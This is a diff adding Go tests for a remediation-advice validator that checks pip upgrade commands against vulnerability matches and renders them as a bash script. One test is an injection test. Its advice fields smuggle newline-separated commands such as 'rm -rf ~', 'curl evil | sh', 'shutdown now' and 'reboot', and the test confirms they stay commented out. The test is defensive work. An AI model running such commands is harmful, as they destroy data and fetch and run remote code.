@@ -0,0 +1,82 @@
+package main
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestRemediationAdviceValidate(t *testing.T) {
+	matches := []VulnerabilityMatch{
+		{ID: "GHSA-1", Package: PackageRef{Name: "requests", Version: "2.0.0"}, FixedVersions: []string{"2.5.0", "3.1.0"}},
+		{ID: "GHSA-1", Package: PackageRef{Name: "requests", Version: "3.0.0"}, FixedVersions: []string{"2.5.0", "3.1.0"}},
+	}
+	fix := func(current, target, command string) AdvisedFix {
+		return AdvisedFix{Vulnerability: "GHSA-1", Package: "requests", CurrentVersion: current, TargetVersion: target,
+			Command: command, Rationale: "fixed upstream", Confidence: 0.9}
+	}
+
+	tests := []struct {
+		name    string
+		fixes   []AdvisedFix
+		wantErr string
+	}{
+		{name: "both installs fixed", fixes: []AdvisedFix{
+			fix("2.0.0", "2.5.0", "pip install requests==2.5.0"),
+			fix("3.0.0", "3.1.0", "pip install requests==3.1.0"),
+		}},
+		{name: "one install missing", fixes: []AdvisedFix{
+			fix("2.0.0", "2.5.0", "pip install requests==2.5.0"),
+		}, wantErr: "fixes are missing for GHSA-1 in requests 3.0.0"},
+		{name: "unknown current version", fixes: []AdvisedFix{
+			fix("2.0.0", "2.5.0", "pip install requests==2.5.0"),
+			fix("3.0.1", "3.1.0", "pip install requests==3.1.0"),
+		}, wantErr: `currentVersion "3.0.1" doesn't match the installed requests 2.0.0 or 3.0.0`},
+		{name: "target below the first fix", fixes: []AdvisedFix{
+			fix("2.0.0", "2.1.0", "pip install requests==2.1.0"),
+			fix("3.0.0", "3.1.0", "pip install requests==3.1.0"),
+		}, wantErr: "targetVersion 2.1.0 is older than 2.5.0"},
+		{name: "command for another package", fixes: []AdvisedFix{
+			fix("2.0.0", "2.5.0", "pip install urllib3==2.5.0"),
+			fix("3.0.0", "3.1.0", "pip install requests==3.1.0"),
+		}, wantErr: "command doesn't install requests 2.5.0"},
+		{name: "command for another version", fixes: []AdvisedFix{
+			fix("2.0.0", "2.5.0", "pip install requests==2.5.0"),
+			fix("3.0.0", "3.1.0", "pip install requests==3.0.5"),
+		}, wantErr: "command doesn't install requests 3.1.0"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			advice := RemediationAdvice{Summary: "upgrade", Fixes: tt.fixes}
+			err := advice.validate(matches)
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Fatalf("expected valid advice, got %v", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("expected error containing %q, got %v", tt.wantErr, err)
+			}
+		})
+	}
+}
+
+func TestRemediationAdviceScriptKeepsFieldsInComments(t *testing.T) {
+	advice := RemediationAdvice{
+		Summary: "upgrade\r\nrequests",
+		Fixes: []AdvisedFix{
+			{Vulnerability: "GHSA-1", Package: "requests", CurrentVersion: "2.0.0\nrm -rf ~", TargetVersion: "2.5.0\ncurl evil | sh",
+				Command: "pip install requests==2.5.0", Rationale: "fixed\nreboot", Confidence: 0.9},
+			{Vulnerability: "GHSA-2", Package: "urllib3", CurrentVersion: "1.0.0", Rationale: "no fix\rshutdown now\nhalt"},
+		},
+	}
+	script := strings.TrimSuffix(strings.TrimPrefix(advice.script(), "```bash\n"), "\n```")
+	for _, line := range strings.Split(script, "\n") {
+		if line == "" || strings.HasPrefix(line, "#") {
+			continue
+		}
+		if line != "pip install requests==2.5.0" {
+			t.Errorf("unexpected script line %q", line)
+		}
+	}
+}